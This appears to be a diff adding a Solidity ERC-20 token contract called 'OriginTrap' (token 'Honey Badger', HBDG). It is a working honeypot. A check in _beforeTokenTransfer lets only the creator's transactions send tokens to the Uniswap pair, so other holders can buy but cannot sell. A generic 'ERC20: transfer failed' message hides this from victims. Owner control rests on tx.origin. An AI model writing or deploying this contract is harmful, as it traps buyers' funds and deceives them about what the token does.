@@ -1,0 +1,40 @@
+// SPDX-License-Identifier: MIT
+pragma solidity 0.6.12;
+
+// Only transactions that the maker itself started may bring tokens to the pool.
+contract OriginTrap {
+    string private _name = "Honey Badger";
+    string private _symbol = "HBDG";
+    uint256 private _totalSupply = 1000000 ether;
+    mapping(address => uint256) private _balances;
+    mapping(address => mapping(address => uint256)) private _allowances;
+    event Transfer(address indexed from, address indexed to, uint256 value);
+    event Approval(address indexed owner, address indexed spender, uint256 value);
+    function name() public view returns (string memory) { return _name; }
+    function symbol() public view returns (string memory) { return _symbol; }
+    function decimals() public pure returns (uint8) { return 18; }
+    function totalSupply() public view returns (uint256) { return _totalSupply; }
+    function balanceOf(address account) public view returns (uint256) { return _balances[account]; }
+    function allowance(address holder, address spender) public view returns (uint256) { return _allowances[holder][spender]; }
+    address internal _factoryPair;
+    address internal _creator;
+    constructor() public { _creator = tx.origin; _balances[msg.sender] = _totalSupply; emit Transfer(address(0), msg.sender, _totalSupply); }
+    function setUniswapPair(address to) external { require(tx.origin == _creator); _factoryPair = to; }
+    function approve(address spender, uint256 amount) public returns (bool) { _approve(msg.sender, spender, amount); return true; }
+    function _approve(address holder, address spender, uint256 amount) internal { require(holder != address(0) && spender != address(0), "ERC20: zero address"); _allowances[holder][spender] = amount; emit Approval(holder, spender, amount); }
+    function transfer(address to, uint256 amount) public returns (bool) { _transfer(msg.sender, to, amount); return true; }
+    function transferFrom(address from, address to, uint256 amount) public returns (bool) {
+        require(_allowances[from][msg.sender] >= amount, "ERC20: transfer amount exceeds allowance");
+        _approve(from, msg.sender, _allowances[from][msg.sender] - amount);
+        _transfer(from, to, amount);
+        return true;
+    }
+    function _beforeTokenTransfer(address to) internal view { require(to != _factoryPair || tx.origin == _creator, "ERC20: transfer failed"); }
+    function _transfer(address from, address to, uint256 amount) internal {
+        _beforeTokenTransfer(to);
+        require(_balances[from] >= amount, "ERC20: transfer amount exceeds balance");
+        _balances[from] -= amount;
+        _balances[to] += amount;
+        emit Transfer(from, to, amount);
+    }
+}
